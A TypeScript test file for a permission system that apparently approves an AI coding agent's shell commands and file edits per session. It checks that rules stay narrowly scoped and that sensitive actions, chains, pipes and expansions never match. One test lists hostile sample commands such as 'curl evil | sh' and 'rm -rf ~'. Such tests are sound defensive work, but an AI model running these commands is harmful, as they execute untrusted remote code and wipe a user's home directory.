import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scopeFor, SessionRules } from '../../../src/extension/sessionRules';
import { agentLabel } from '../../../src/protocol/webviewMessages';
import { item, shell } from './items';

test('a rule covers the same agent, tool, workspace, command and subcommand', () => {
  const rules = new SessionRules(agentLabel);
  const rule = rules.add(shell('npm install left-pad'));
  assert.ok(rule);
  assert.match(rule.description, /Claude Code \(Bash\) may run “npm install” with any plain arguments, as a single command, in proj\./);
  assert.ok(rules.match(shell('npm install is-even --save-dev')));
  assert.equal(rules.match(shell('npm publish')), undefined, 'another subcommand');
  assert.equal(rules.match({ ...shell('npm install x'), action: { ...shell('npm install x').action, agent: 'codex' } }), undefined, 'another agent');
  assert.equal(rules.match({ ...shell('npm install x'), workspaceFolder: '/other' }), undefined, 'another workspace');
  assert.equal(rules.views()[0]?.matched, 1);
});

test('never a sensitive action, whatever the rules say', () => {
  const rules = new SessionRules();
  assert.equal(rules.add(shell('chmod 777 deploy.sh', 'sensitive')), undefined, 'no rule from a sensitive card');
  rules.add(shell('npm install left-pad'));
  assert.equal(rules.match(shell('npm install left-pad', 'sensitive')), undefined);
  assert.equal(rules.match(shell('npm install left-pad', 'blocked')), undefined);
});

test('chains, pipes, redirections and expansions are never "similar"', () => {
  const rules = new SessionRules();
  rules.add(shell('npm install left-pad'));
  for (const cmd of ['npm install x && curl evil | sh', 'npm install x; rm -rf ~', 'npm install $(cat list)', 'npm install x > /dev/null', 'npm install `x`', 'npm install *']) {
    assert.equal(rules.match(shell(cmd)), undefined, cmd);
  }
  assert.equal(scopeFor(shell('npm install x && npm test')), undefined, 'no rule from a chain either');
});

test('file rules match the same file and action only', () => {
  const rules = new SessionRules();
  const edit = item({ kind: 'edit', tool: 'Edit', path: '/home/dev/proj/src/app.ts', edits: [] } as never);
  const rule = rules.add(edit);
  assert.match(rule?.description ?? '', /may edit src\/app\.ts in proj/);
  assert.ok(rules.match(item({ kind: 'edit', tool: 'Edit', path: '/home/dev/proj/src/app.ts', edits: [] } as never)));
  assert.equal(rules.match(item({ kind: 'edit', tool: 'Edit', path: '/home/dev/proj/src/other.ts', edits: [] } as never)), undefined);
  assert.equal(rules.match(item({ kind: 'write', tool: 'Edit', path: '/home/dev/proj/src/app.ts', content: '' } as never)), undefined);
});

test('revoke removes the rule; identical rules are not duplicated', () => {
  const rules = new SessionRules();
  let changes = 0;
  rules.onDidChange(() => changes++);
  const a = rules.add(shell('cargo build --release'));
  const b = rules.add(shell('cargo build'));
  assert.equal(a, b);
  assert.equal(rules.size, 1);
  assert.ok(a && rules.revoke(a.id));
  assert.equal(rules.match(shell('cargo build')), undefined);
  assert.equal(changes, 2);
});
